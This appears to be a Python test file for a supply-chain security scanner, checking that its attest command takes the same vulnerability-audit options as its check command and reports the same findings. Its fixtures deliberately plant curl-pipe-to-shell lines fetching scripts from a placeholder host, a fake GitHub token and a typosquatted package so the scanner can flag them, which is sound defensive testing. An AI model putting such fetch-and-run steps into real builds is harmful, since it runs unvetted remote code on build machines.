"""`attest --audit` takes check's audit options and runs check's sequence.

Before, the attest copy of the collect -> audit sequence took no options: `--osv-db` was
refused and the signed evidence said the vulnerability audit did not run. Now check,
pr-check and attest --audit build the same AuditOptions from the same argparse helpers.
"""

from __future__ import annotations

import argparse
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import git
import pytest

from gatekeeper import cli
from gatekeeper.attest.dsse import b64decode_strict
from gatekeeper.attest.keys import write_keypair
from gatekeeper.cli import main
from gatekeeper.commands.args import CHECK_ONLY_OPTIONS
from gatekeeper.models.envelope import Envelope
from gatekeeper.store import open_store
from tests.attest._osv import DJANGO_ADVISORY, OsvApi, write_osv_db
from tests.conftest import commit_files


@pytest.fixture(autouse=True)
def _osv_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))


@pytest.fixture
def key(tmp_path: Path) -> str:
    write_keypair(tmp_path / "keys" / "ci", "ed25519")
    return str(tmp_path / "keys" / "ci")


@pytest.fixture
def osv_api() -> Iterator[OsvApi]:
    api = OsvApi()
    yield api
    api.close()


def _subparser(command: str, monkeypatch: pytest.MonkeyPatch) -> argparse.ArgumentParser:
    monkeypatch.setattr(cli._EXTENSIONS, "wanted", [command])
    sub = next(a for a in cli.build_parser()._subparsers._group_actions if a.dest == "command")  # type: ignore[union-attr]
    parser: argparse.ArgumentParser = sub.choices[command]  # type: ignore[attr-defined]
    return parser


def _flags(parser: argparse.ArgumentParser) -> set[str]:
    return {f for a in parser._actions for f in a.option_strings if f.startswith("--")} - {"--help"}


def test_attest_takes_every_option_of_check(monkeypatch: pytest.MonkeyPatch) -> None:
    check = _flags(_subparser("check", monkeypatch))
    attest = _flags(_subparser("attest", monkeypatch))
    # Every check option is an attest option too, or one that only shapes check's own
    # output, with the reason written down (a new check option must decide which it is).
    assert check - attest == set(CHECK_ONLY_OPTIONS)
    assert {"--osv-db", "--osv-api", "--osv-api-url", "--osv-offline-ok"} <= attest
    assert {"--base", "--policy", "--only", "--image", "--allowed-signers"} <= attest
    assert set(CHECK_ONLY_OPTIONS) <= check  # no stale entry


def test_pr_check_takes_the_audit_options_of_check(monkeypatch: pytest.MonkeyPatch) -> None:
    check = _flags(_subparser("check", monkeypatch))
    pr_check = _flags(_subparser("pr-check", monkeypatch))
    own_output = {"--staged", "--write-baseline"}
    assert check - pr_check == own_output


def _repo(git_repo: git.Repo, requirements: str = "django==4.2.0\n") -> Path:
    commit_files(git_repo, {"requirements.txt": requirements, "README.md": "app\n"}, "deps")
    return Path(str(git_repo.working_tree_dir))


def _attested(store: Path) -> dict[str, Any]:
    [stored] = open_store(str(store)).all()
    envelope = Envelope.model_validate_json(stored.data)
    statement = json.loads(b64decode_strict(envelope.payload, "payload"))
    predicate: dict[str, Any] = statement["predicate"]
    return predicate


def _attest(repo: Path, key: str, store: Path, *extra: str) -> int:
    base = ["attest", "--stage", "scan", "--key", key, "--store", str(store), "--repo", str(repo)]
    return main([*base, "--audit", *extra])


def test_attest_audit_with_an_offline_osv_database(
    git_repo: git.Repo, key: str, tmp_path: Path
) -> None:
    repo = _repo(git_repo)
    db = write_osv_db(tmp_path / "osv")
    assert _attest(repo, key, tmp_path / "store", "--osv-db", str(db)) == 0
    predicate = _attested(tmp_path / "store")
    deps = predicate["evidence"]["deps"]
    assert deps["osv"].startswith("db:")
    assert [(v["id"], v["name"], v["version"]) for v in deps["vulnerabilities"]] == [
        (DJANGO_ADVISORY["id"], "django", "4.2.0")
    ]
    hits = [f for f in predicate["findings"] if f["rule"] == "deps/known-vulnerability"]
    assert [(f["severity"], f["path"]) for f in hits] == [("critical", "requirements.txt")]


def test_attest_audit_with_the_osv_api(
    git_repo: git.Repo, key: str, tmp_path: Path, osv_api: OsvApi
) -> None:
    repo = _repo(git_repo)
    code = _attest(repo, key, tmp_path / "store", "--osv-api", "--osv-api-url", osv_api.url)
    assert code == 0
    deps = _attested(tmp_path / "store")["evidence"]["deps"]
    assert deps["osv"] == f"api:{osv_api.url}"
    assert [v["id"] for v in deps["vulnerabilities"]] == [DJANGO_ADVISORY["id"]]
    assert osv_api.queries == [
        {"package": {"ecosystem": "PyPI", "name": "django"}, "version": "4.2.0"}
    ]


def test_attest_audit_notes_an_unreachable_api_when_offline_is_ok(
    git_repo: git.Repo, key: str, tmp_path: Path, osv_api: OsvApi
) -> None:
    repo = _repo(git_repo)
    dead = osv_api.url
    osv_api.close()  # nothing listens there any more
    store = tmp_path / "store"
    assert _attest(repo, key, store, "--osv-api-url", dead) == 2  # unreachable: an error
    assert not (store / "envelopes").exists()  # and nothing half-attested
    assert _attest(repo, key, store, "--osv-api-url", dead, "--osv-offline-ok") == 0
    deps = _attested(store)["evidence"]["deps"]
    assert deps["osv"] is None
    assert any(n.startswith("OSV API not consulted") for n in deps["notes"])


def test_attest_audit_only_the_kinds_asked_for(
    git_repo: git.Repo, key: str, tmp_path: Path
) -> None:
    repo = _repo(git_repo)
    assert _attest(repo, key, tmp_path / "store", "--only", "deps", "--only", "secrets") == 0
    predicate = _attested(tmp_path / "store")
    assert predicate["audited"] == ["deps", "secrets"]
    assert set(predicate["evidence"]) == {"deps", "secrets", "sbom"}


def test_audit_options_without_audit_are_a_usage_error(
    git_repo: git.Repo, key: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    repo = _repo(git_repo)
    base = ["attest", "--stage", "s", "--key", key, "--store", str(tmp_path / "st")]
    assert main([*base, "--repo", str(repo), "--osv-db", str(tmp_path / "osv")]) == 2
    assert "give --audit too" in capsys.readouterr().err
    assert main([*base, "--repo", str(repo), "--only", "deps"]) == 2


def test_audit_reads_one_image(
    git_repo: git.Repo, key: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    repo = _repo(git_repo)
    images = ["--image", "oci:a", "--image", "oci:b"]
    assert _attest(repo, key, tmp_path / "store", *images) == 2
    assert "one --image" in capsys.readouterr().err
    assert not (tmp_path / "store").exists()


# -- the same sequence ------------------------------------------------------------------------


WORKFLOW = """on: pull_request
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: curl -sk https://x.example.net/i.sh | sh
"""


def test_attest_audit_and_check_find_the_same(
    git_repo: git.Repo, key: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    commit_files(git_repo, {"README.md": "app\n", "requirements.txt": "six==1.16.0\n"}, "base")
    base = git_repo.head.commit.hexsha
    token = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
    commit_files(
        git_repo,
        {
            ".github/workflows/ci.yml": WORKFLOW,
            "requirements.txt": "six==1.16.0\ndjango==4.2.0\nreqeusts==1.0\n",
            "config/settings.py": f'token = "{token}"\n',
            "Dockerfile": "FROM python:3.12\nUSER root\nRUN curl -k https://x.example.net/s | sh\n",
        },
        "head",
    )
    repo = Path(str(git_repo.working_tree_dir))
    db = str(write_osv_db(tmp_path / "osv"))
    options = ["--base", base, "--osv-db", db]
    capsys.readouterr()
    assert main(["check", str(repo), *options, "--format", "json"]) == 1
    checked = json.loads(capsys.readouterr().out)["findings"]
    assert _attest(repo, key, tmp_path / "store", *options) == 0
    attested = _attested(tmp_path / "store")["findings"]

    def key_of(f: dict[str, Any]) -> tuple[str, str, str, str | None, int | None]:
        return (f["rule"], f["fingerprint"], f["severity"], f.get("path"), f.get("line"))

    assert sorted(map(key_of, checked)) == sorted(map(key_of, attested))
    rules = {f["rule"] for f in checked}
    assert {"deps/known-vulnerability", "pipeline/remote-script"} <= rules
    assert any(r.startswith("secrets/") for r in rules)
